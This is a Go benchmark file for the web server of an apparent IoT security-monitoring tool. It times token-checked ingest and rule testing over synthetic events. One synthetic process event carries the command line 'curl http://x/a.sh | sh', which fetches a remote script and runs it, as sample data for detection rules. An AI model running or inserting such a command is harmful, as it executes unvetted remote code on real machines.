package web

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/auth"
)

// BenchmarkAuthorizedIngestRoute measures what the server adds in front of
// an ingest handler: routing, token verification, role check, metrics and
// the (disabled) debug log.
func BenchmarkAuthorizedIngestRoute(b *testing.B) {
	e := newEnv(b, func(o *Options) {
		o.Logger = slog.New(slog.DiscardHandler)
		o.BulkEvents = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusOK) })
	})
	req := httptest.NewRequest("POST", PathBulkEvents, nil)
	req.Header.Set("Authorization", "Bearer "+e.tok[auth.RoleAgent])
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			rec := httptest.NewRecorder()
			e.srv.ServeHTTP(rec, req)
			if rec.Code != http.StatusOK {
				b.Fatalf("status %d", rec.Code)
			}
		}
	})
}

// BenchmarkRuleTest10k measures POST /api/v1/rules/test with one rule on
// the 10,000 most recent events of a SQLite store (the default): reading
// them by pages, encoding and evaluating them with explanations.
func BenchmarkRuleTest10k(b *testing.B) {
	e := newEnv(b, func(o *Options) {
		o.Logger = slog.New(slog.DiscardHandler)
		o.Extra = RuleTestRoutes(&RuleTest{Store: o.Store, Clock: fixedClock(now)})
	})
	evs := make([]vigil.Event, 0, 12000)
	for i := range 12000 {
		evs = append(evs, vigil.Event{ID: fmt.Sprint("e", i), Time: now.Add(-time.Duration(i) * time.Second), DeviceID: fmt.Sprint("cam-", i%50), Kind: "process",
			Fields: map[string]any{"process.command_line": []string{"curl http://x/a.sh | sh", "sshd -D", "busybox ps"}[i%3], "user.name": []string{"root", "alice"}[i%2]}})
	}
	if err := e.store.PutEvents(b.Context(), evs); err != nil {
		b.Fatal(err)
	}
	body, _ := json.Marshal(RuleTestRequest{RuleYAML: testRule})
	b.ReportAllocs()
	for b.Loop() {
		code, out, _ := e.do("POST", "/api/v1/rules/test", "analyst", string(body))
		if code != http.StatusOK {
			b.Fatalf("%d %s", code, out)
		}
	}
}
